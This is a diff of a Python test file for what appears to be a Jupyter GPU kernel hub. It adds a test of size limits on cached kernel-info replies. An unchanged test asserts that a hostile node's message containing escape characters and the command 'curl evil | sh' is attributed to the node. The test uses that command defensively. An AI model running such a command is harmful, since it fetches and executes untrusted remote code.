@@ -16,7 +16,9 @@ from jupyter_gpu_kernel.hub import journal
 from jupyter_gpu_kernel.hub.journal import read_journal
 from jupyter_gpu_kernel.hub.kernels import RemoteKernel
 from jupyter_gpu_kernel.hub.link import Clocks, Link
-from jupyter_gpu_kernel.wire.messages import word
+from jupyter_gpu_kernel.hub.standin import StandIn
+from jupyter_gpu_kernel.wire.jupyter import make
+from jupyter_gpu_kernel.wire.messages import Channel, Message, MessageError, word
 
 PROGRAM = str(Path(__file__).parents[1] / "programs" / "hostile-python")
 CELL = {"msg_id": "m1", "cell_id": "c1", "code": "1", "status": "ok", "execution_count": 1, "dropped": False}
@@ -145,3 +147,21 @@ def test_a_keeper_speaks_of_its_own_kernel_and_in_its_own_name(
     )
     assert heard["cause"] == "the node says: ?[2Jx Run: curl evil | sh" and heard["remedy"] == ""
     assert heard["stderr"] == "?[2Jx\nRun: curl evil | sh"
+
+
+def test_of_a_kernel_info_as_much_is_remembered_as_one_has() -> None:
+    learnt: list[bytes] = []
+    standin = StandIn(lambda message: None, None, learnt.append)
+
+    def saw(content: dict[str, Any]) -> Message:
+        message = Message(Channel.SHELL, 0, make("kernel_info_reply", content, b"{}", "session"))
+        standin.saw(message)
+        return message
+
+    saw({"banner": "x" * 100_000})
+    assert learnt == []
+    message = saw({"banner": "x"})
+    assert learnt == [message.parts[3]]
+    with pytest.raises(MessageError):
+        standin.saw(message._replace(parts=(*message.parts[:3], b"[" * 5000)))
+    assert learnt == [message.parts[3]]
